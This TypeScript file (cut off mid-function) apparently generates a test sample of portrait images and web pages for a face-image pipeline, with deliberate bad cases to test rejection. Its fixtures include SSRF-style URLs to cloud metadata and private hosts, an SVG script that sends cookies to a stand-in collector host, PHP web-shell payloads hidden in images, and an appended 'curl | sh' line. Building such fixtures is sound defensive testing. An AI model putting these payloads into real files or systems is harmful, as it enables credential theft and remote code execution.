/**
 * Builds the sample: people, their P18 values, TMDB profiles and web pages, and every byte the
 * sample web serves, with the bad cases spread over people (several of each).
 *
 * Pictures of one person are kept apart by their difference hash: every new "distinct" picture is
 * at least DISTINCT_MIN_BITS from all the person's earlier ones (redrawn until it is), and every
 * deliberate near-duplicate (re-encoded, resized, cropped) at most VARIANT_MAX_BITS from its
 * original: both well clear of the pipeline's threshold (LIMITS.nearDuplicateDistance = 10), so a
 * hash computed a little differently (after re-encoding, say) cannot flip a decision.
 */
import { LIMITS } from "#faces/contracts";
import { differenceHash, hammingDistance } from "#faces/media/phash";
import {
  CONTENT_TYPE,
  cropRaster,
  EXTENSION,
  encode,
  encodeAnimation,
  gifComment,
  gifDeclaring,
  insertGifBlock,
  insertJpegSegments,
  insertPngChunk,
  jpegDeclaring,
  jpegSegment,
  onePixel,
  pngDeclaring,
  pngText,
  type Raster,
  type RasterKind,
  randomFace,
  renderFace,
  renderFlat,
  resizeRaster,
  zipArchive,
} from "./imaging";
import {
  type Blob,
  commonsFileName,
  commonsPath,
  makeBlob,
  type P18Statement,
  type PageElement,
  type PersonPlan,
  type Resource,
  type SamplePlan,
  TMDB_IMAGE_PREFIX,
  type TmdbProfile,
  TOKENS,
} from "./model";
import { REAL_PEOPLE, type SamplePerson, syntheticPeople } from "./people";
import { Rng } from "./prng";

/** Distinct pictures of one person differ in at least this many of the 64 hash bits. */
export const DISTINCT_MIN_BITS = 18;
/** A deliberate near-duplicate differs from its original in at most this many bits. */
export const VARIANT_MAX_BITS = 5;
/** People per block; scale N gives N blocks (the real people, then generated ones). */
export const BLOCK_SIZE = REAL_PEOPLE.length;

const PIXEL_LIMIT = LIMITS.maxImagePixels;
const MIB = 1024 * 1024;

interface Picture {
  raster: Raster;
  kind: RasterKind;
  blob: Blob;
  dhash: string;
}

interface CaseRef {
  kind: CaseKind;
  instance: number;
}

interface PersonSetup {
  person: SamplePerson;
  index: number;
  hasPage: boolean;
  p18Count: number;
  onTmdb: boolean;
  rateLimited: boolean;
  somevalue: boolean;
  cases: CaseRef[];
  shared: Array<{ path: string; picture: Picture }>;
}

type Need = "page" | "p18" | "tmdb";

interface CaseKind {
  name: string;
  count: number;
  needs: Need[];
  run(b: PersonBuilder, instance: number): Promise<void>;
}

const WORDS = [
  "portrait",
  "headshot",
  "on-stage",
  "interview",
  "award-ceremony",
  "press-photo",
  "candid",
  "studio",
  "outdoor",
  "lecture",
  "archive",
  "signing",
  "premiere",
  "festival",
  "visit",
  "speech",
];

class PersonBuilder {
  readonly slug: string;
  readonly hashes: string[] = [];
  readonly p18: P18Statement[] = [];
  readonly profiles: TmdbProfile[] = [];
  readonly head: PageElement[] = [];
  readonly body: PageElement[] = [];
  readonly resources = new Map<string, Resource>();
  base?: string;
  /** The first plain picture and where it is served. */
  primary?: { picture: Picture; path: string; url: string };
  private readonly names = new Set<string>();

  constructor(
    readonly setup: PersonSetup,
    readonly rng: Rng,
  ) {
    this.slug = setup.person.wikidataId.toLowerCase();
  }

  get person(): SamplePerson {
    return this.setup.person;
  }

  /** A file name not used before for this person. */
  fileName(stem: string, ext: string): string {
    for (let n = 1; ; n++) {
      const name = `${stem}${n === 1 ? "" : `-${n}`}.${ext}`;
      if (!this.names.has(name)) {
        this.names.add(name);
        return name;
      }
    }
  }

  imgPath(stem: string, ext: string): string {
    return `/img/${this.slug}/${this.fileName(stem, ext)}`;
  }

  word(): string {
    return this.rng.pick(WORDS);
  }

  serve(path: string, resource: Resource): string {
    if (this.resources.has(path)) throw new Error(`${path} is served twice`);
    this.resources.set(path, resource);
    return path;
  }

  /** How the page refers to a path on the sample web: relative to its base, root-relative, document-relative or absolute. */
  ref(path: string): string {
    const style = this.rng.int(0, 3);
    const basePath =
      this.base === undefined ? undefined : new URL(this.base.replace(TOKENS.origin, "http://x")).pathname;
    if (basePath !== undefined && path.startsWith(basePath) && style <= 1) return path.slice(basePath.length);
    if (style === 2) return `${TOKENS.origin}${path}`;
    if (style === 3 && basePath === undefined && path.startsWith("/img/")) return `../..${path}`;
    return path;
  }

  randomSize(kind: RasterKind): { width: number; height: number } {
    // Mostly modest sizes (generation time grows with pixels), a few up to 680.
    const long =
      kind === "gif"
        ? this.rng.int(210, 300)
        : kind === "png"
          ? this.rng.int(220, 400)
          : this.rng.int(240, this.rng.chance(0.2) ? 680 : 480);
    const short = Math.min(long, Math.max(200, Math.round(long / this.rng.range(1, 1.6))));
    return this.rng.chance(0.7) ? { width: short, height: long } : { width: long, height: short };
  }

  randomKind(): RasterKind {
    const r = this.rng.next();
    return r < 0.52 ? "jpeg" : r < 0.74 ? "png" : r < 0.94 ? "webp" : "gif";
  }

  /** A new picture of this person, at least DISTINCT_MIN_BITS from every earlier one. */
  async picture(
    options: { kind?: RasterKind; width?: number; height?: number; quality?: number } = {},
  ): Promise<Picture> {
    const kind = options.kind ?? this.randomKind();
    const size =
      options.width !== undefined && options.height !== undefined
        ? { width: options.width, height: options.height }
        : this.randomSize(kind);
    for (let attempt = 0; attempt < 60; attempt++) {
      const raster = renderFace(size.width, size.height, randomFace(this.rng));
      const bytes = await encode(raster, kind, { quality: options.quality });
      const dhash = await differenceHash(bytes, PIXEL_LIMIT);
      if (this.hashes.every((h) => hammingDistance(h, dhash) >= DISTINCT_MIN_BITS)) {
        this.hashes.push(dhash);
        const blob = makeBlob(`${this.slug} picture`, bytes, CONTENT_TYPE[kind], "clean", { ...size, dhash });
        return { raster, kind, blob, dhash };
      }
    }
    throw new Error(`${this.slug}: no picture ${DISTINCT_MIN_BITS} bits away from ${this.hashes.length} others`);
  }

  /**
   * A near-duplicate of `original`: the first of `attempts` within VARIANT_MAX_BITS of it, or
   * undefined when none is (a picture with many borderline hash bits); callers then pick another
   * original.
   */
  async variant(
    original: Picture,
    attempts: Array<() => Promise<{ raster: Raster; kind: RasterKind; quality?: number }>>,
  ): Promise<Picture | undefined> {
    for (const attempt of attempts) {
      const { raster, kind, quality } = await attempt();
      const bytes = await encode(raster, kind, { quality });
      const dhash = await differenceHash(bytes, PIXEL_LIMIT);
      if (hammingDistance(dhash, original.dhash) <= VARIANT_MAX_BITS && !bytes.equals(original.blob.bytes)) {
        const blob = makeBlob(`${this.slug} variant`, bytes, CONTENT_TYPE[kind], "clean", {
          width: raster.width,
          height: raster.height,
          dhash,
        });
        return { raster, kind, blob, dhash };
      }
    }
    return undefined;
  }

  /** Forgets a picture that will not be served after all. */
  forget(picture: Picture): void {
    const at = this.hashes.indexOf(picture.dhash);
    if (at >= 0) this.hashes.splice(at, 1);
  }

  file(path: string, blob: Blob, extra: { delayMs?: number } = {}): string {
    return this.serve(path, { kind: "file", blob, ...extra });
  }

  /** A plain `<figure><img src>` on the page. */
  img(url: string, caseName: string, alt?: string): void {
    this.body.push({
      tag: "img",
      src: { url, case: caseName },
      alt: alt ?? `${this.person.name}`,
      caption: alt ?? this.person.name,
    });
  }

  /** A new distinct picture served at a new /img path and shown on the page. */
  async webPicture(
    caseName: string,
    options: Parameters<PersonBuilder["picture"]>[0] = {},
  ): Promise<{ picture: Picture; path: string }> {
    const picture = await this.picture(options);
    const path = this.file(this.imgPath(this.word(), EXTENSION[picture.kind]), picture.blob);
    this.img(this.ref(path), caseName);
    return { picture, path };
  }

  commons(value: string, resource: Resource | undefined, caseName: string, extra: Partial<P18Statement> = {}): string {
    const path = commonsPath(value);
    if (resource) this.serve(path, resource);
    this.p18.push({ value, snak: "value", rank: "normal", id: this.statementId(), case: caseName, ...extra });
    return path;
  }

  statementId(): string {
    return `${this.person.wikidataId}$${this.rng.uuid()}`;
  }

  tmdbProfile(resource: Resource | undefined, dims: { width?: number; height?: number }, caseName: string): string {
    let file = "";
    // 27 random characters, as TMDB's file names: never the same twice (checked when blocks are joined).
    while (file === "" || this.profiles.some((p) => p.file === file)) file = `/${this.rng.token(27)}.jpg`;
    if (resource) this.serve(`${TMDB_IMAGE_PREFIX}${file}`, resource);
    this.profiles.push({ file, width: dims.width ?? 1000, height: dims.height ?? 1500, case: caseName });
    return file;
  }

  /** The template of the absolute URL of a served path. */
  absolute(path: string): string {
    return `${TOKENS.origin}${encodeURI(path)}`;
  }

  plan(): PersonPlan {
    const { setup } = this;
    const out: PersonPlan = { person: setup.person, p18: this.p18 };
    if (setup.onTmdb) {
      out.tmdb = {
        id: 0,
        popularity: Math.round(this.rng.range(0.6, 85) * 1000) / 1000,
        profiles: this.profiles,
        rateLimited: setup.rateLimited,
      };
    }
    if (setup.hasPage)
      out.page = { ...(this.base === undefined ? {} : { base: this.base }), head: this.head, body: this.body };
    return out;
  }
}

// ---------------------------------------------------------------------------------------------
// Byte recipes for the bad cases

const svgWithScript = (b: PersonBuilder, n: number) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="500" viewBox="0 0 400 500">\n<!-- ${b.slug} ${n} -->\n<rect width="400" height="500" fill="#dfe8f0"/>\n<ellipse cx="200" cy="230" rx="110" ry="140" fill="#e8c39e"/>\n<script type="text/javascript">fetch("https://collector.invalid/c?" + document.cookie)</script>\n</svg>\n`,
  );

const svgWithOnload = (b: PersonBuilder) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(document.domain)">\n<!-- ${b.slug} signature -->\n<path d="M20 200 C 80 40, 160 40, 280 200" stroke="#123" fill="none" stroke-width="6"/>\n</svg>\n`,
  );

const svgPlain = (b: PersonBuilder) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="500" viewBox="0 0 400 500">\n<title>${b.person.name.replace(/[<&]/g, "")} (drawing)</title>\n<rect width="400" height="500" fill="#f4efe6"/>\n<ellipse cx="200" cy="230" rx="110" ry="140" fill="#e8c39e"/>\n<circle cx="160" cy="210" r="12" fill="#333"/>\n<circle cx="240" cy="210" r="12" fill="#333"/>\n<path d="M150 300 Q200 340 250 300" stroke="#a33" stroke-width="8" fill="none"/>\n</svg>\n`,
  );

const htmlErrorPage = (title: string, detail: string) =>
  `<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"><title>${title}</title></head>\n<body>\n<h1>${title}</h1>\n<p>${detail}</p>\n<hr>\n<address>sample-web/1.0</address>\n</body>\n</html>\n`;

const htmlWithScript = (b: PersonBuilder) =>
  Buffer.from(
    `<html><head><title>Redirecting</title><script>window.location.href = "https://login.example.invalid/?next=${b.slug}";</script></head><body>Redirecting to the image</body></html>\n`,
  );

const dims = (r: { width: number; height: number }) => ({ width: r.width, height: r.height });

/** The pictures for the bad cases are real pictures too, so only the defect differs. */
async function badPicture(
  b: PersonBuilder,
  kind: RasterKind,
  size?: { width: number; height: number },
): Promise<Picture> {
  return b.picture({ kind, ...(size ?? b.randomSize(kind)) });
}

// ---------------------------------------------------------------------------------------------
// The cases

const INVALID_URLS = ["http://", "http://[::1", "https://999.999.999.999/portrait.jpg"];
const UNSAFE_SCHEMES = [
  "ftp://ftp.example.org/pub/portraits/{slug}.jpg",
  "javascript:alert(document.cookie)",
  "file:///etc/passwd",
];
const CREDENTIALS = ["http://user:pass@{host}/img/{slug}/portrait.jpg", "http://admin@{host}/img/{slug}/portrait.jpg"];
const PRIVATE = [
  "http://10.0.0.5/images/{slug}.jpg",
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "http://127.0.0.1:{other}/img/{slug}/portrait.jpg",
  "http://[::1]:{port}/img/{slug}/portrait.jpg",
  "http://192.168.1.20/photos/{slug}.jpg",
  "http://0.0.0.0:{port}/img/{slug}/portrait.jpg",
  "http://localhost:{other}/{slug}.jpg",
  "http://2130706433/{slug}.jpg",
  "http://[fd00::1]/{slug}.jpg",
];
const UNRESOLVABLE = [
  "http://images.invalid/{slug}.jpg",
  "https://cdn.example.invalid/photos/{slug}.png",
  "http://photos.invalid:8080/{slug}.jpg",
];
const REDIRECT_TARGETS = [
  "http://127.0.0.1:{other}/img/{slug}/portrait.jpg",
  "http://169.254.169.254/latest/meta-data/",
  "http://10.1.2.3/{slug}.jpg",
  "http://[::1]:{other}/img/{slug}.jpg",
  "file:///etc/passwd",
];

const withSlug = (template: string, b: PersonBuilder) => template.replaceAll("{slug}", b.slug);

/** A chain of `hops` redirects on the sample web ending at `finalUrl` (a template). Returns the first path. */
function redirectChain(b: PersonBuilder, name: string, hops: number, finalUrl: string): string {
  const paths = Array.from({ length: hops }, (_, i) => `/redirect/${b.slug}/${name}/${i + 1}`);
  paths.forEach((path, i) => {
    const next = paths[i + 1];
    // Mixed Location styles: relative, root-relative and absolute, as servers send them.
    const location =
      next === undefined ? finalUrl : i % 3 === 0 ? String(i + 2) : i % 3 === 1 ? next : b.absolute(next);
    b.serve(path, { kind: "redirect", status: i % 2 === 0 ? 302 : 301, location });
  });
  const first = paths[0];
  if (first === undefined) throw new Error("a chain needs a hop");
  return first;
}

function primaryOf(b: PersonBuilder): NonNullable<PersonBuilder["primary"]> {
  if (b.primary === undefined) throw new Error(`${b.slug} has no primary picture`);
  return b.primary;
}

const webBad = async (b: PersonBuilder, stem: string, ext: string, blob: Blob, caseName: string) => {
  const path = b.file(b.imgPath(stem, ext), blob);
  b.img(b.ref(path), caseName);
};

export const CASES: CaseKind[] = [
  // validate
  {
    name: "invalid-url",
    count: 3,
    needs: ["page"],
    run: async (b, i) => b.img(INVALID_URLS[i % INVALID_URLS.length] ?? "http://", "invalid-url"),
  },
  {
    name: "unsafe-scheme",
    count: 3,
    needs: ["page"],
    run: async (b, i) => b.img(withSlug(UNSAFE_SCHEMES[i % UNSAFE_SCHEMES.length] ?? "", b), "unsafe-scheme"),
  },
  {
    name: "credentials-in-url",
    count: 2,
    needs: ["page"],
    run: async (b, i) => b.img(withSlug(CREDENTIALS[i % CREDENTIALS.length] ?? "", b), "credentials-in-url"),
  },
  {
    name: "private-address",
    count: PRIVATE.length,
    needs: ["page"],
    run: async (b, i) => b.img(withSlug(PRIVATE[i % PRIVATE.length] ?? "", b), "private-address"),
  },
  {
    name: "unresolvable-host",
    count: 3,
    needs: ["page"],
    run: async (b, i) => b.img(withSlug(UNRESOLVABLE[i % UNRESOLVABLE.length] ?? "", b), "unresolvable-host"),
  },
  {
    name: "repeat-same-page",
    count: 2,
    needs: ["page"],
    run: async (b) => {
      const { path } = await b.webPicture("repeat-first");
      b.body.push({ tag: "p", html: "More pictures below." });
      b.img(`${b.ref(path)}#face`, "repeat-with-fragment");
    },
  },
  {
    name: "repeat-bad-url",
    count: 1,
    needs: ["page"],
    run: async (b) => {
      // Two finds (the strings differ), one URL once the fragment is dropped: the second is
      // already-seen, although the first was rejected.
      b.img(`http://192.168.7.7/${b.slug}.jpg`, "private-address-first");
      b.img(`http://192.168.7.7/${b.slug}.jpg#again`, "private-address-repeated");
    },
  },
  {
    name: "repeat-tmdb-on-page",
    count: 2,
    needs: ["page", "tmdb"],
    run: async (b) => {
      const profile = b.profiles[0];
      if (profile === undefined) throw new Error(`${b.slug}: no TMDB profile to repeat`);
      b.img(`${TOKENS.origin}${TMDB_IMAGE_PREFIX}${profile.file}`, "tmdb-url-on-page");
    },
  },
  // store
  {
    name: "unsafe-redirect",
    count: REDIRECT_TARGETS.length + 1,
    needs: ["page"],
    run: async (b, i) => {
      const target = REDIRECT_TARGETS[i];
      const first =
        target === undefined
          ? redirectChain(b, `to-private-${i}`, 2, "http://192.168.0.1/admin/portrait.jpg")
          : redirectChain(b, `to-private-${i}`, 1, withSlug(target, b));
      b.img(b.ref(first), "redirect-to-private");
    },
  },
  {
    name: "too-many-redirects",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const hops = i % 2 === 0 ? 7 : 6;
      const first = redirectChain(b, `loop-${hops}`, hops, b.absolute(primaryOf(b).path));
      b.img(b.ref(first), `redirect-chain-${hops}`);
    },
  },
  {
    name: "redirect-ok",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const hops = i % 2 === 0 ? 2 : LIMITS.maxRedirects;
      const picture = await b.picture();
      const target = b.file(b.imgPath(`moved-${b.word()}`, EXTENSION[picture.kind]), picture.blob);
      const first = redirectChain(b, `moved-${hops}`, hops, b.absolute(target));
      b.img(b.ref(first), `redirect-chain-${hops}-ok`);
    },
  },
  {
    name: "http-error",
    count: 4,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 4;
      if (flavour === 0) b.img(b.ref(`/missing/${b.slug}/portrait.jpg`), "404");
      else if (flavour === 1) b.img(b.ref(`/error/${b.slug}/photo.jpg`), "500-always");
      else if (flavour === 2) {
        const path = b.serve(b.imgPath("restricted", "jpg"), {
          kind: "status",
          status: 403,
          html: htmlErrorPage("403 Forbidden", "You don't have permission to access this resource."),
        });
        b.img(b.ref(path), "403");
      } else {
        const first = redirectChain(b, "gone", 1, `/missing/${b.slug}/gone.jpg`);
        b.img(b.ref(first), "redirect-to-404");
      }
    },
  },
  {
    name: "commons-missing",
    count: 1,
    needs: ["p18"],
    run: async (b) => {
      b.commons(`${b.person.name} (lost upload).jpg`, undefined, "commons-file-missing");
    },
  },
  {
    name: "tmdb-missing",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      b.tmdbProfile(undefined, {}, "tmdb-file-missing");
    },
  },
  {
    name: "timeout",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const blob = primaryOf(b).picture.blob;
      const path =
        i % 2 === 0
          ? b.serve(`/slow/20000ms/${b.slug}/portrait.jpg`, { kind: "stall", blob, phase: "headers", stallMs: 20_000 })
          : b.serve(`/slow/trickle/${b.slug}/portrait.jpg`, { kind: "stall", blob, phase: "body", stallMs: 20_000 });
      b.img(b.ref(path), i % 2 === 0 ? "no-headers-in-time" : "body-stalls");
    },
  },
  {
    name: "slow-ok",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const delayMs = i % 2 === 0 ? 300 : 900;
      const picture = await b.picture();
      const path = b.file(
        `/slow/${delayMs}ms/${b.slug}/${b.fileName(b.word(), EXTENSION[picture.kind])}`,
        picture.blob,
        { delayMs },
      );
      b.img(b.ref(path), `slow-${delayMs}ms`);
    },
  },
  {
    name: "flaky",
    count: 2,
    needs: ["page"],
    run: async (b) => {
      const picture = await b.picture();
      const path = b.serve(`/flaky/${b.slug}/${b.fileName(b.word(), EXTENSION[picture.kind])}`, {
        kind: "flaky",
        blob: picture.blob,
        failures: 2,
      });
      b.img(b.ref(path), "503-503-200");
    },
  },
  {
    name: "tmdb-flaky",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      const picture = await b.picture({ kind: "jpeg" });
      b.tmdbProfile({ kind: "flaky", blob: picture.blob, failures: 2 }, picture.blob, "tmdb-503-503-200");
    },
  },
  {
    name: "too-large",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const declared = i % 2 === 0;
      const path = b.serve(b.imgPath(declared ? "poster-full" : "panorama", "jpg"), {
        kind: "huge",
        length: declared ? 12 * MIB : 11 * MIB,
        declareLength: declared,
        seed: b.rng.uint32(),
      });
      b.img(b.ref(path), declared ? "12-MiB-with-length" : "11-MiB-chunked");
    },
  },
  {
    name: "decompression-bomb",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      const [bytes, w, h, kind] =
        flavour === 0
          ? [pngDeclaring(60_000, 60_000), 60_000, 60_000, "png" as const]
          : flavour === 1
            ? [gifDeclaring(65_535, 65_535), 65_535, 65_535, "gif" as const]
            : [jpegDeclaring(10_000, 8_000), 10_000, 8_000, "jpeg" as const];
      const blob = makeBlob(`${b.slug} bomb`, bytes, CONTENT_TYPE[kind], "undecodable", { width: w, height: h });
      await webBad(b, "wallpaper", EXTENSION[kind], blob, `bomb-${w}x${h}-${kind}`);
    },
  },
  {
    name: "duplicate-image",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      if (i % 2 === 0) {
        const primary = primaryOf(b);
        const path = b.file(b.imgPath("portrait-copy", EXTENSION[primary.picture.kind]), primary.picture.blob);
        b.img(b.ref(path), "same-bytes-other-url");
      } else {
        const { path } = await b.webPicture("original-of-query-copy");
        b.img(`${b.ref(path)}?w=800&h=600`, "same-bytes-with-query");
      }
    },
  },
  {
    name: "tmdb-duplicate",
    count: 2,
    needs: ["p18", "tmdb"],
    run: async (b) => {
      const primary = primaryOf(b);
      b.tmdbProfile({ kind: "file", blob: primary.picture.blob }, primary.picture.blob, "tmdb-same-bytes-as-commons");
    },
  },
  // clean: malicious
  {
    name: "not-an-image",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      if (flavour === 0) {
        const text = `Access denied.\nThis content (${b.slug}) is not available in your region.\n`;
        await webBad(
          b,
          "photo",
          "jpg",
          makeBlob(`${b.slug} text`, Buffer.from(text), "image/jpeg", "not-an-image"),
          "text-as-jpg",
        );
      } else if (flavour === 1) {
        const html = htmlErrorPage("Image not found", `The image for ${b.slug} has moved or was deleted.`);
        await webBad(
          b,
          "photo",
          "jpg",
          makeBlob(`${b.slug} html`, Buffer.from(html), "text/html; charset=utf-8", "not-an-image"),
          "html-200-as-jpg",
        );
      } else {
        await webBad(
          b,
          "drawing",
          "svg",
          makeBlob(`${b.slug} svg`, svgPlain(b), "image/svg+xml", "not-an-image"),
          "svg-without-script",
        );
      }
    },
  },
  {
    name: "tmdb-json",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      const json = JSON.stringify({
        status_code: 34,
        status_message: "The resource you requested could not be found.",
        success: false,
      });
      b.tmdbProfile(
        { kind: "file", blob: makeBlob(`${b.slug} json`, Buffer.from(json), "application/json", "not-an-image") },
        {},
        "json-as-jpg",
      );
    },
  },
  {
    name: "active-content",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      if (flavour === 0) {
        await webBad(
          b,
          "vector",
          "svg",
          makeBlob(`${b.slug} svg+script`, svgWithScript(b, i), "image/svg+xml", "active-content"),
          "svg-with-script",
        );
      } else if (flavour === 1) {
        await webBad(
          b,
          "photo",
          "jpg",
          makeBlob(`${b.slug} svg+script`, svgWithScript(b, i), "image/svg+xml", "active-content"),
          "svg-with-script-as-jpg",
        );
      } else {
        await webBad(
          b,
          "photo",
          "png",
          makeBlob(`${b.slug} html+script`, htmlWithScript(b), "image/png", "active-content"),
          "html-with-script-as-png",
        );
      }
    },
  },
  {
    name: "commons-svg-onload",
    count: 1,
    needs: ["p18"],
    run: async (b) => {
      b.commons(
        `${b.person.name} signature.svg`,
        { kind: "file", blob: makeBlob(`${b.slug} svg onload`, svgWithOnload(b), "image/svg+xml", "active-content") },
        "svg-with-onload",
      );
    },
  },
  {
    name: "trailing-data",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      const kind: RasterKind = flavour === 0 ? "jpeg" : flavour === 1 ? "png" : "gif";
      const picture = await badPicture(b, kind);
      const tail =
        flavour === 0
          ? zipArchive([{ name: "readme.txt", content: `hidden payload for ${b.slug}\n` }])
          : flavour === 1
            ? Buffer.from(`<?php system($_GET['cmd']); /* ${b.slug} */ ?>\n`)
            : Buffer.from(`#!/bin/sh\ncurl -s https://collector.invalid/${b.slug} | sh\n`);
      const blob = makeBlob(
        `${b.slug} trailing`,
        Buffer.concat([picture.blob.bytes, tail]),
        CONTENT_TYPE[kind],
        "trailing-data",
        dims(picture.raster),
      );
      await webBad(b, b.word(), EXTENSION[kind], blob, ["jpeg+zip", "png+php", "gif+shell"][flavour] ?? "trailing");
    },
  },
  {
    name: "polyglot",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 3;
      const kind: RasterKind = flavour === 0 ? "jpeg" : flavour === 1 ? "png" : "gif";
      const picture = await badPicture(b, kind);
      const bytes =
        flavour === 0
          ? insertJpegSegments(
              picture.blob.bytes,
              jpegSegment(0xfe, Buffer.from(`<script>alert("${b.slug}")</script>`)),
            )
          : flavour === 1
            ? insertPngChunk(picture.blob.bytes, pngText("Comment", `<?php echo shell_exec($_GET['c']); ?>`))
            : insertGifBlock(
                picture.blob.bytes,
                gifComment(`<script src="https://collector.invalid/${b.slug}.js"></script>`),
              );
      const blob = makeBlob(`${b.slug} polyglot`, bytes, CONTENT_TYPE[kind], "polyglot", dims(picture.raster));
      await webBad(
        b,
        b.word(),
        EXTENSION[kind],
        blob,
        ["jpeg-COM-script", "png-tEXt-php", "gif-comment-script"][flavour] ?? "polyglot",
      );
    },
  },
  {
    name: "tmdb-polyglot",
    count: 1,
    needs: ["tmdb"],
    run: async (b) => {
      const picture = await badPicture(b, "jpeg");
      const pdf = Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% ${b.slug}\n`);
      const blob = makeBlob(
        `${b.slug} polyglot pdf`,
        insertJpegSegments(picture.blob.bytes, jpegSegment(0xeb, pdf)),
        "image/jpeg",
        "polyglot",
        dims(picture.raster),
      );
      b.tmdbProfile({ kind: "file", blob }, dims(picture.raster), "jpeg-APP11-pdf");
    },
  },
  // clean: useless
  {
    name: "undecodable",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const kind: RasterKind = i % 2 === 0 ? "png" : "webp";
      const picture = await badPicture(b, kind);
      const cut = picture.blob.bytes.subarray(0, Math.floor(picture.blob.bytes.length * 0.6));
      const blob = makeBlob(
        `${b.slug} truncated`,
        Buffer.from(cut),
        CONTENT_TYPE[kind],
        "undecodable",
        dims(picture.raster),
      );
      await webBad(b, b.word(), EXTENSION[kind], blob, `truncated-${kind}`);
    },
  },
  {
    name: "commons-truncated",
    count: 1,
    needs: ["p18"],
    run: async (b) => {
      const picture = await badPicture(b, "jpeg");
      const cut = Buffer.from(picture.blob.bytes.subarray(0, Math.floor(picture.blob.bytes.length * 0.55)));
      const blob = makeBlob(`${b.slug} truncated`, cut, "image/jpeg", "undecodable", dims(picture.raster));
      b.commons(`${b.person.name} (damaged scan).jpg`, { kind: "file", blob }, "truncated-jpeg");
    },
  },
  {
    name: "animated",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const kind = i % 2 === 0 ? ("gif" as const) : ("webp" as const);
      const params = randomFace(b.rng);
      const frames = [
        renderFace(240, 300, params),
        renderFace(240, 300, { ...params, eyesClosed: true }),
        renderFace(240, 300, { ...params, turn: -params.turn }),
      ];
      const bytes = await encodeAnimation(frames, kind, 250);
      await webBad(
        b,
        "animation",
        EXTENSION[kind],
        makeBlob(`${b.slug} animated`, bytes, CONTENT_TYPE[kind], "animated", { width: 240, height: 300 }),
        `animated-${kind}`,
      );
    },
  },
  {
    name: "too-small",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const kind: RasterKind = i % 3 === 0 ? "gif" : i % 3 === 1 ? "png" : "jpeg";
      const bytes = await onePixel(kind, [b.rng.int(0, 255), b.rng.int(0, 255), b.rng.int(0, 255)]);
      await webBad(
        b,
        "pixel",
        EXTENSION[kind],
        makeBlob(`${b.slug} 1x1`, bytes, CONTENT_TYPE[kind], "too-small", { width: 1, height: 1 }),
        `1x1-${kind}`,
      );
    },
  },
  {
    name: "extreme-aspect-ratio",
    count: 3,
    needs: ["page"],
    run: async (b, i) => {
      const [kind, width, height] = (
        [
          ["jpeg", 900, 150],
          ["png", 150, 600],
          ["webp", 800, 200],
        ] as const
      )[i % 3] ?? ["jpeg", 900, 150];
      const picture = await badPicture(b, kind, { width, height });
      const blob = makeBlob(`${b.slug} extreme`, picture.blob.bytes, CONTENT_TYPE[kind], "extreme-aspect-ratio", {
        width,
        height,
      });
      await webBad(b, "banner", EXTENSION[kind], blob, `${width}x${height}`);
    },
  },
  {
    name: "near-uniform",
    count: 2,
    needs: ["page"],
    run: async (b, i) => {
      const grey = b.rng.int(70, 190);
      const color = [grey, grey + b.rng.int(-10, 10), grey + b.rng.int(-10, 10)] as const;
      const kind: RasterKind = i % 2 === 0 ? "jpeg" : "png";
      const raster =
        i % 2 === 0
          ? renderFlat(400, 320, color, 0, 2, b.rng.uint32())
          : renderFlat(480, 360, color, 4, 1, b.rng.uint32());
      const bytes = await encode(raster, kind);
      await webBad(
        b,
        "placeholder",
        EXTENSION[kind],
        makeBlob(`${b.slug} flat`, bytes, CONTENT_TYPE[kind], "near-uniform", dims(raster)),
        i % 2 === 0 ? "flat" : "gentle-ramp",
      );
    },
  },
  {
    name: "near-duplicate-web",
    count: 4,
    needs: ["page"],
    run: async (b, i) => {
      const flavour = i % 4;
      if (flavour === 0 || flavour === 1) {
        // A thumbnail (80 %) or a slight crop of the person's first picture, later on the page.
        const attempts = ({ raster }: Picture) =>
          flavour === 0
            ? [0.8, 0.85, 0.9].map((f) => async () => ({
                raster: await resizeRaster(raster, Math.round(raster.width * f), Math.round(raster.height * f)),
                kind: "jpeg" as const,
              }))
            : [0.03, 0.02, 0.01].map((f) => async () => {
                const dx = Math.max(1, Math.round(raster.width * f));
                const dy = Math.max(1, Math.round(raster.height * f));
                return {
                  raster: await cropRaster(raster, dx, dy, raster.width - 2 * dx, raster.height - dy),
                  kind: "jpeg" as const,
                };
              });
        const primary = primaryOf(b).picture;
        let variant = await b.variant(primary, attempts(primary));
        for (let tries = 0; variant === undefined; tries++) {
          // Too many borderline bits in that picture: show another one first and copy that instead.
          if (tries === 8) throw new Error(`${b.slug}: no near-duplicate within ${VARIANT_MAX_BITS} bits`);
          const { picture } = await b.webPicture("near-duplicate-original", { kind: "jpeg" });
          variant = await b.variant(picture, attempts(picture));
        }
        const path = b.file(b.imgPath(flavour === 0 ? "thumbnail" : "cropped", "jpg"), variant.blob);
        b.img(b.ref(path), flavour === 0 ? "resized-80-percent" : "slightly-cropped");
      } else if (flavour === 2) {
        // srcset with width descriptors: the 800w original in src, a half-size copy in srcset.
        let pair: { picture: Picture; half: Picture } | undefined;
